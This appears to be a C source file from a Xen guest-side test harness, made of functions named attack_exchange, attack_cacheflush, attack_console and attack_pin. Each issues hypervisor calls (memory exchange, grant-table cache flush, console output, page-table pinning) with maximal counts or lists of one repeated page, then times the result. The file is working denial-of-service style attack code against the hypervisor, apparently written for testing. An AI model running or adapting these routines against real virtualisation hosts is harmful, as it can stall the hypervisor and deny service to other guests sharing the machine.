/* Calls whose length the guest chooses, with lists in which every page is the same one and with the largest counts. Calls that take only a line or
 * two are in counted.c. */
#include "attack.h"

struct exchange { struct memory_reservation in, out; u64 done; };

static void told(s64 result, u64 began) { print("END result %d after %u ms\n", result, (now() - began) / 1000000); }

void attack_exchange(void) {
    u64 lists = endless(), count = option("count", 4294967295), began = now();
    static struct exchange x;
    if (!lists) { print("END no window\n"); return; }
    repeated[0] = p2m[start_info->nr_pages - 1];
    x.in = (struct memory_reservation){(u64 *)lists, count, 0, 0, DOMID_SELF};
    /* What the first round gives out, the second one takes in. */
    x.out = (struct memory_reservation){(u64 *)(lists + 8), count, 0, 0, DOMID_SELF};
    x.done = 0;
    print("BEGIN\n");
    told(hypercall(HYPERVISOR_memory_op, XENMEM_exchange, (u64)&x, 0, 0), began);
}

void attack_cacheflush(void) {
    u64 lists = endless(), began = now();
    clear_bytes(repeated, sizeof repeated);
    print("BEGIN\n");
    told(hypercall(HYPERVISOR_grant_table_op, 12, lists, option("count", 2147483647), 0), began);
}

void attack_console(void) {
    u64 lists = endless(), began = now();
    for (u64 i = 0; i < sizeof repeated; i++) ((u8 *)repeated)[i] = option("char", '\n');
    print("BEGIN\n");
    for (u64 i = 0; i < option("rounds", 1000); i++) hypercall(HYPERVISOR_console_io, 0, 0x7fffffff, lists, 0);
    told(0, began);
}

/* Pins and unpins a tree of as many tables as memory has room for, in which all entries are used. */
void attack_pin(void) {
    static u8 tables[2][PAGE] __attribute__((aligned(4096), section(".bss.page")));
    u64 began = now(), rounds = option("rounds", 20), frames = option("tables", 1024), first = start_info->nr_pages - frames;
    u64 *l3 = (u64 *)tables[0];
    u64 l2s = frames / 512 ? frames / 512 : 1, at = first;
    for (u64 t = 0; t < l2s; t++) {
        u64 l2 = p2m[at++];
        u64 *v = map_frame(l2, 3);
        for (int i = 0; i < 512; i++) {
            u64 l1 = p2m[first + l2s + (t * 511 + i) % (frames - l2s)];
            v[i] = l1 << 12 | PTE_WR;
        }
        l3[t] = l2 << 12 | PTE_WR;
    }
    for (u64 n = l2s; n < frames; n++) {
        u64 *v = map_frame(p2m[first + n], 3);
        for (int i = 0; i < 512; i++) v[i] = mfn_of(tables[1]) << 12 | PTE_WR;
    }
    set_entry((void *)map_frame(mfn_of(tables[1]), 3), 0, UVMF_INVLPG);
    set_entry(tables[0], mfn_of(tables[0]) << 12 | PTE_RO, UVMF_INVLPG);
    print("BEGIN\n");
    s64 r = 0;
    for (u64 i = 0; i < rounds && !r; i++) {
        r = mmuext(MMUEXT_PIN_L3_TABLE, mfn_of(tables[0]));
        if (!r) r = mmuext(MMUEXT_UNPIN_TABLE, mfn_of(tables[0]));
    }
    told(r, began);
}
